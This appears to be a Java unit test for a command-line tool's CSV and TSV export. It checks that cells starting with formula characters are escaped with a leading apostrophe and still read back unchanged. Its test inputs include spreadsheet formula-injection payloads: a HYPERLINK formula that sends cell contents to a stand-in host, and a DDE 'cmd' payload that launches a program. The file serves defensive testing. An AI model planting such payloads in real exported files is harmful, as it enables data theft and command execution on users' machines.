package org.stemma.cli.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SeparatedTest {
  private static final Pattern GUARDED =
      Pattern.compile("'(?='*(?:[\\t\\r\\n]|[\\s\\u00a0\"]*[=+\\-@%|＝＋－＠]))");

  /** Reads one cell back, as the class says. */
  private static String cell(String csv) {
    String cell = csv;
    if (csv.startsWith("\"")) {
      cell = csv.substring(1, csv.length() - 1).replace("\"\"", "\"");
    }
    return GUARDED.matcher(cell).lookingAt() ? cell.substring(1) : cell;
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"x\")",
        "=cmd|' /C calc'!A0",
        "\"=1+1\"",
        "＝1+1",
        "＋1",
        "\u00a0=1+1",
        " =1+1",
        "%=1",
        "|calc",
        "-5 degrees in Berlin",
        "=) a smile",
        "'=1",
        "''-x"
      })
  void noCellBeginsAFormulaAndAllReadBack(String value) {
    String csv = Separated.csv(List.of(value), true);

    assertThat(csv.replaceFirst("^\"", "")).startsWith("'");
    assertThat(cell(csv)).isEqualTo(value);
  }

  @ParameterizedTest
  @ValueSource(strings = {"plain", "a,\"b\"\nc", "\";=1+1;\" ok", "'Twas", "a=b", " spaced "})
  void otherCellsReadBackUnchanged(String value) {
    assertThat(cell(Separated.csv(List.of(value), true))).isEqualTo(value);
  }

  @Test
  void numbersAndTimesAreOurs() {
    assertThat(Separated.csv(Arrays.asList(-5, Instant.EPOCH, null, true, List.of("a", "b")), true))
        .isEqualTo("-5,1970-01-01T00:00:00Z,,true,a; b");
  }

  @Test
  void tsvIsOneLineACell() {
    assertThat(Separated.tsv(List.of("a\tb\nc", "\u001b[2J", "=1"), true))
        .isEqualTo("a b c\t␛[2J\t'=1");
  }
}
